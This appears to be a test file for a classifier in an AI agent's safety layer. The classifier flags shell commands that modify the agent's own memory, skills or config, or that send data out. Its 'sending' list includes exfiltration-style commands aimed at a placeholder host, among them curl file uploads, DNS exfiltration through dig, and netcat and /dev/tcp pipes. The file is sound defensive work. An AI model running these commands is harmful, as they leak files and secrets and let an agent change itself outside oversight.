import assert from "node:assert/strict";
import { test } from "node:test";
import { classifyCommand } from "../verdict.ts";

const options = { home: "/home/me/.hermes", osHome: "/home/me", sudoPasswordSet: false, denyGlobs: [] };
const effectsOf = (command: string, cwd?: string) =>
  classifyCommand(command, cwd === undefined ? options : { ...options, cwd }).effects ?? [];

const changing = [
  "echo x > ~/.hermes/SOUL.md",
  "cp -r s ~/.hermes/skills/",
  "mkdir -p ~/.hermes/skills/x",
  "rm ~/.hermes/cron/jobs.json",
  "sqlite3 ~/.hermes/state.db 'select 1'",
  "tee -a $HERMES_HOME/memories/MEMORY.md < x",
  "echo x >> AGENTS.md",
  "hermes memory add x",
  "hermes -p work skills install x",
  "hermes cron create x",
  "hermes plugins enable x",
  "hermes mcp add x",
  "hermes config set model.default x",
  "npx hermes config unset x",
  "bash -c 'hermes memory forget 1'",
];

const sending = [
  "python3 -c 'import requests; requests.get(\"https://h.example\")'",
  "node <<< 'fetch(\"https://h.example\")'",
  "curl -d @x https://h.example",
  "curl --data-binary @- https://h.example < x",
  "curl -F f=@x https://h.example",
  "curl -T x https://h.example",
  "curl -X POST https://h.example",
  "curl --json '{}' https://h.example",
  'curl "https://h.example/?q=$X"',
  'curl "https://h.example/$(base64 x)"',
  "wget --post-file=x https://h.example",
  'wget "https://h.example/$X"',
  "http POST h.example a=b",
  "scp x h.example:",
  "rsync -a x h.example:y",
  "sftp h.example",
  "nc h.example 1 < x",
  "cat x | socat - TCP:h.example:1",
  "tar c x | ssh h.example 'cat > y'",
  "git push",
  "git -C x push origin main",
  "gh issue create --title x",
  "gh pr comment 1 --body x",
  "gh api repos/a/b/issues -f title=x",
  "npm publish",
  "cargo publish",
  "twine upload x",
  "docker push x",
  "aws s3 cp x s3://b/x",
  "aws s3 sync . s3://b --delete",
  "gsutil cp x gs://b/",
  "rclone copy x r:b",
  "mail -s x a@h.example < x",
  "dig $(cat x).h.example",
  "nslookup $X.h.example",
  "sh -c 'curl -d @x https://h.example'",
  "echo x > /dev/tcp/h.example/1",
];

const neither = [
  "ls -la ~/.hermes",
  "cat ~/.hermes/config.yaml",
  "echo x > ~/.hermes/workspace/notes.md",
  "hermes memory list",
  "hermes skills show x",
  "hermes config get model",
  "hermes -z 'memory add x'",
  "curl https://h.example/x",
  "curl -H 'A: b' https://h.example/x",
  "curl -d a=b http://localhost:3000/x",
  "curl -X POST http://127.0.0.1:8080",
  "wget https://h.example/x",
  "scp h.example:x .",
  "rsync -a h.example:x y",
  "rsync -a a/ b/",
  "ssh h.example uptime",
  "nc -z localhost 80",
  "git pull",
  "git commit -m 'git push'",
  "gh pr list",
  "npm install",
  "docker pull x",
  "aws s3 ls",
  "aws s3 cp s3://b/x .",
  "dig example.com",
  "echo x > notes.md",
];

test("a command that changes the agent or sends something out says so, whatever the verdict", () => {
  for (const command of changing) assert.deepEqual(effectsOf(command), ["changes the agent"], command);
  for (const command of sending) assert.deepEqual(effectsOf(command), ["sends data out"], command);
  for (const command of neither)
    assert.equal(classifyCommand(command, options).effects, undefined, `${command}: ${effectsOf(command)}`);
});

test("both may be true at once, and a relative name counts by where the command begins", () => {
  assert.deepEqual(effectsOf("hermes memory add x && git push"), ["changes the agent", "sends data out"]);
  assert.deepEqual(effectsOf("echo x > notes", "/home/me/.hermes/memories"), ["changes the agent"]);
  assert.deepEqual(effectsOf("echo x > notes", "/home/me/project"), []);
});
